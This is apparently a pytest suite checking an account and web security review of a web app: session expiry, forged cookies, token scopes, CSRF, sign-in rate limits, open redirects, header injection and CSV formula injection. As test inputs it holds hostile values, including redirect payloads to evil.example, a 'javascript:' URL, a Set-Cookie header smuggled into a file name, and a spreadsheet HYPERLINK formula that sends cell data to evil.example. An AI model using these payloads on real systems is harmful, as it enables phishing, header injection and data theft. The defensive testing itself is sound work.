"""Sessions, secrets, accounts and tokens (issue 15, points 1-5): what a probe of the running server
found, each shown fixed on a small instance of its own (no demo data: these are about accounts)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import update

from hamkor.accounts.service import AccountError, Accounts
from hamkor.config import Settings
from hamkor.store.db import Database
from hamkor.store.models import ApiToken, WebSession
from hamkor.web.app import create_app
from hamkor.web.security import SESSION_COOKIE
from tests.helpers import PASSWORD, csrf_of, signed_in

ROLES = ("admin", "analyst", "viewer")


def _instance(tmp_path, **settings) -> tuple:
    config = Settings(data_dir=tmp_path / "data", **settings)
    db = Database(config)
    db.upgrade()
    accounts = Accounts(db)
    for role in ROLES:
        accounts.create_user(f"{role}@security.org", PASSWORD, role)
    db.dispose()
    app = create_app(config)
    return app, app.state.web.services.accounts


@pytest.fixture
def instance(tmp_path):
    app, accounts = _instance(tmp_path)
    yield app, accounts
    app.state.web.services.warehouse.close()


def _signed_out(client: TestClient) -> bool:
    """The client's cookie opens nothing: pages send it to sign in, the API answers 401."""
    page = client.get("/account", follow_redirects=False)
    return page.status_code in (303, 307) and "/signin" in page.headers["location"] \
        and client.get("/api/v1/me").status_code == 401


def test_a_cookie_signed_with_the_old_constant_key_opens_nothing(instance):
    app, _ = instance
    old = URLSafeTimedSerializer("hamkor-development-key-not-for-production", salt="hamkor-session")
    for forged in (old.dumps({"uid": 1, "csrf": "x"}), old.dumps({"sid": "anything"})):
        client = TestClient(app)
        client.cookies.set(SESSION_COOKIE, forged)
        assert _signed_out(client)


def test_signing_out_ends_the_session_wherever_its_cookie_was_copied(instance):
    app, _ = instance
    browser = signed_in(app, "analyst@security.org")
    copy = TestClient(app)
    copy.cookies.set(SESSION_COOKIE, browser.cookies.get(SESSION_COOKIE))
    assert copy.get("/api/v1/me").json()["email"] == "analyst@security.org"
    assert browser.post("/signout", data={"csrf": csrf_of(browser, "/account")}).status_code == 200
    assert _signed_out(copy)


def test_sessions_end_when_idle_and_at_their_absolute_limit(instance):
    app, accounts = instance
    idle, old = signed_in(app, "viewer@security.org"), signed_in(app, "analyst@security.org")
    with accounts.db.session() as session:
        nine_hours_ago = datetime.now(UTC) - timedelta(hours=9)
        viewer_id, analyst_id = accounts.find("viewer@security.org").id, accounts.find("analyst@security.org").id
        session.execute(update(WebSession).where(WebSession.user_id == viewer_id).values(last_seen_at=nine_hours_ago))
        session.execute(update(WebSession).where(WebSession.user_id == analyst_id)
                        .values(expires_at=datetime.now(UTC) - timedelta(minutes=1)))
    assert _signed_out(idle) and _signed_out(old)


def test_a_new_password_ends_every_session_and_must_be_strong(instance):
    app, accounts = instance
    here, elsewhere = signed_in(app, "analyst@security.org"), signed_in(app, "analyst@security.org")
    token = csrf_of(here, "/account")
    for weak, why in (("short pw", "не менее 12"), ("1qaz2wsx3edc", "легко подобрать"),
                      ("analyst@security.org", "с адресом электронной почты")):
        refused = here.post("/account/password", data={"csrf": token, "current": PASSWORD, "password": weak,
                                                        "repeated": weak})
        assert refused.status_code == 422 and why in refused.text.split('id="problems"')[1].split("</ul>")[0]
    assert here.post("/account/password", data={"csrf": token, "current": "not it", "password": "a new long one 1",
                                                 "repeated": "a new long one 1"}).status_code == 422
    changed = here.post("/account/password", data={"csrf": token, "current": PASSWORD, "password": "a new long one 1",
                                                   "repeated": "a new long one 1"}, follow_redirects=False)
    assert changed.status_code == 303 and "notice=password-changed" in changed.headers["location"]
    assert _signed_out(here) and _signed_out(elsewhere)
    assert accounts.authenticate("analyst@security.org", PASSWORD) is None
    assert accounts.authenticate("analyst@security.org", "a new long one 1") is not None
    with pytest.raises(AccountError, match="easy to guess"):
        accounts.create_user("new@security.org", "123456qwerty", "viewer")


def test_deactivating_a_user_ends_their_sessions_and_revokes_their_tokens(instance):
    app, accounts = instance
    victim = signed_in(app, "analyst@security.org")
    user = accounts.find("analyst@security.org")
    token = accounts.create_token(user.id, "a script", "write", datetime.now(UTC) + timedelta(days=30))
    admin = signed_in(app, "admin@security.org")
    assert admin.post(f"/users/{user.id}/deactivate", data={"csrf": csrf_of(admin, "/users")}).status_code == 200
    assert _signed_out(victim)
    assert TestClient(app, headers={"Authorization": f"Bearer {token}"}).get("/api/v1/me").status_code == 401
    assert "отключена" in admin.get("/users").text
    admin.post(f"/users/{user.id}/reactivate", data={"csrf": csrf_of(admin, "/users")})
    assert signed_in(app, "analyst@security.org").get("/api/v1/me").status_code == 200
    assert TestClient(app, headers={"Authorization": f"Bearer {token}"}).get("/api/v1/me").status_code == 401
    assert signed_in(app, "viewer@security.org").get("/users").status_code == 403  # admins only


def test_tokens_are_named_scoped_expiring_and_revocable(instance):
    app, accounts = instance
    analyst = signed_in(app, "analyst@security.org")
    made = analyst.post("/account/tokens", data={"csrf": csrf_of(analyst, "/account"), "name": "monthly report",
                                                 "scope": "read", "days": "30"})
    reader = made.text.split('id="new-token"')[1].split("<code>")[1].split("</code>")[0]
    api = TestClient(app, headers={"Authorization": f"Bearer {reader}"})
    assert api.get("/api/v1/me").status_code == 200
    refused = api.post("/api/v1/cooperation/events", json={"kind": "meeting", "title": "x"})
    assert refused.status_code == 403 and "only read" in refused.text  # a read token changes nothing
    listed = analyst.get("/account").text
    assert "monthly report" in listed and reader not in listed  # named, never shown again
    writer = accounts.create_token(accounts.find("analyst@security.org").id, "loader", "write",
                                   datetime.now(UTC) + timedelta(days=1))
    with accounts.db.session() as session:
        session.execute(update(ApiToken).where(ApiToken.name == "loader")
                        .values(expires_at=datetime.now(UTC) - timedelta(seconds=1)))
    assert TestClient(app, headers={"Authorization": f"Bearer {writer}"}).get("/api/v1/me").status_code == 401
    own = next(t for t in accounts.tokens() if t.name == "monthly report")
    analyst.post(f"/account/tokens/{own.id}/revoke", data={"csrf": csrf_of(analyst, "/account")})
    assert api.get("/api/v1/me").status_code == 401
    with pytest.raises(AccountError):
        accounts.create_token(own.user_id, "", "read")


def test_the_json_api_with_a_cookie_needs_the_csrf_header_to_change_anything(instance):
    app, _ = instance
    browser = signed_in(app, "analyst@security.org")
    body = {"kind": "meeting", "title": "Проверка", "start_date": "2026-12-20"}
    assert browser.post("/api/v1/cooperation/events", json=body, headers={"X-CSRF-Token": "forged"}).status_code == 403
    assert browser.get("/api/v1/cooperation/events").status_code == 200  # reading needs none
    assert browser.post("/api/v1/cooperation/events", json=body).status_code == 201  # the session's own token


def test_the_sign_in_form_value_is_tied_to_its_pre_session(instance):
    app, _ = instance
    planted = TestClient(app)
    planted.cookies.set("hamkor_signin_csrf", "chosen-by-someone-else")
    form = {"email": "admin@security.org", "password": PASSWORD, "csrf": "chosen-by-someone-else"}
    assert planted.post("/signin", data=form, follow_redirects=False).status_code == 400
    mine, theirs = TestClient(app), TestClient(app)
    their_value = csrf_of(theirs, "/signin")
    csrf_of(mine, "/signin")  # my own pre-session cookie, their form value
    assert mine.post("/signin", data={**form, "csrf": their_value}, follow_redirects=False).status_code == 400


def test_one_address_cannot_spray_many_accounts(instance):
    app, _ = instance
    client = TestClient(app)
    token = csrf_of(client, "/signin")
    statuses = [client.post("/signin", data={"email": f"guess{n}@security.org", "password": "wrong guess",
                                             "csrf": token}).status_code for n in range(21)]
    assert statuses[:20] == [401] * 20 and statuses[20] == 429
    right = client.post("/signin", data={"email": "admin@security.org", "password": PASSWORD, "csrf": token})
    assert right.status_code == 429  # the address is stopped, whichever account it tries next


def test_forwarded_for_is_believed_only_from_a_trusted_proxy(tmp_path):
    for trusted, rotating_escapes in (("", False), ("testclient", True)):
        app, _ = _instance(tmp_path / (trusted or "none"), trusted_proxies=trusted)
        try:
            client = TestClient(app)
            token = csrf_of(client, "/signin")

            def attempt(n: int, forwarded: str, client=client, token=token) -> int:
                return client.post("/signin", data={"email": f"g{n}@security.org", "password": "wrong guess",
                                                    "csrf": token}, headers={"X-Forwarded-For": forwarded}).status_code

            assert [attempt(n, "198.51.100.7") for n in range(21)][-1] == 429
            # Another forwarded address: a new one behind the trusted proxy, the same peer without one
            assert (attempt(99, "203.0.113.9") == 401) is rotating_escapes
        finally:
            app.state.web.services.warehouse.close()


@pytest.mark.parametrize("target", ["https://evil.example/x", "//evil.example/x", "/\t/evil.example", "/\\evil.example",
                                    "\\\\evil.example", "/\n/evil.example", "javascript:alert(1)", "evil.example"])
def test_back_and_next_lead_only_to_paths_of_this_site(instance, target):
    from hamkor.web.pages._render import local_path

    assert local_path(target, "/home") == "/home"
    app, _ = instance
    client = TestClient(app)
    token = csrf_of(client, "/signin")
    signed = client.post("/signin", data={"email": "viewer@security.org", "password": PASSWORD, "csrf": token,
                                          "next": target}, follow_redirects=False)
    assert signed.status_code == 303 and signed.headers["location"] == "/"
    moved = client.post("/language", data={"csrf": csrf_of(client, "/account"), "language": "uz", "next": target},
                        follow_redirects=False)
    assert moved.headers["location"] == "/"
    assert local_path("/missions/1?tab=requests#participants") == "/missions/1?tab=requests#participants"


def test_every_response_carries_the_security_headers(instance):
    app, _ = instance
    client = signed_in(app, "admin@security.org")
    for path in ("/account", "/api/v1/me", "/static/app.css", "/no-such-page", "/api/docs",
                 "/cooperation/events.ics"):
        headers = client.get(path).headers
        assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "DENY", path
        assert "frame-ancestors 'none'" in headers["content-security-policy"] and "'unsafe-inline'" not in \
            headers["content-security-policy"].split("script-src")[1].split(";")[0], path
        assert headers["referrer-policy"] == "same-origin"
        assert (headers.get("cache-control") == "no-store") is (not path.startswith("/static/")), path
    assert 'filename="hamkor-events.ics"' in client.get("/cooperation/events.ics").headers["content-disposition"]


def test_file_names_are_encoded_not_pasted():
    from hamkor.web.shared.downloads import disposition

    header = disposition('Меморандум "о сотрудничестве".pdf\r\nSet-Cookie: x=1')["Content-Disposition"]
    assert "\r" not in header and "\n" not in header and header.count('"') == 2
    assert header.startswith('attachment; filename="') and "filename*=UTF-8''%D0%9C%D0%B5" in header


def test_a_name_that_looks_like_a_formula_is_exported_as_text(instance, tmp_path):
    """OWASP CSV injection: the web's company exports, the CLI's and the mission workbook write such a
    name as text (CSV: with a leading apostrophe; Excel: a string cell, never a formula)."""
    import csv
    import io

    from openpyxl import load_workbook
    from typer.testing import CliRunner

    from hamkor.cli import app as cli
    from hamkor.companies.registry import CompanyData
    from hamkor.missions import documents
    from hamkor.missions.service import MissionData

    app, _ = instance
    services = app.state.web.services
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    company = services.registry.create(CompanyData(name_ru=evil, country="RU", region="RU-ALT", city="-1+2"))
    client = signed_in(app, "admin@security.org")
    book = load_workbook(io.BytesIO(client.get("/companies/export.xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    rows = list(csv.reader(io.StringIO(client.get("/companies/export.csv").content.decode("utf-8-sig"))))
    assert any("'" + evil in row for row in rows) and not any(evil in row for row in rows)
    assert any("'-1+2" in row for row in rows)
    out = tmp_path / "companies.csv"
    listed = CliRunner().invoke(cli, ["--data-dir", str(services.settings.data_dir), "companies", "list", "-f", "csv",
                                      "-o", str(out)])
    assert listed.exit_code == 0, listed.output
    cli_rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert cli_rows[1][1] == "'" + evil and cli_rows[1][4] == "'-1+2"
    mission = services.missions.create(MissionData(
        name="=1+1", host_territory="RU-ALT", visiting_territory="UZ-SI", timezone="Asia/Barnaul",
        days=[{"date": "2027-03-01", "start": "10:00", "end": "12:00"}], slot_minutes=30, tables=1))
    services.missions.add_participant(mission.id, company.id, "host", [evil])
    workbook = load_workbook(io.BytesIO(documents.workbook(services.missions, mission)))
    formulas = [c.value for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
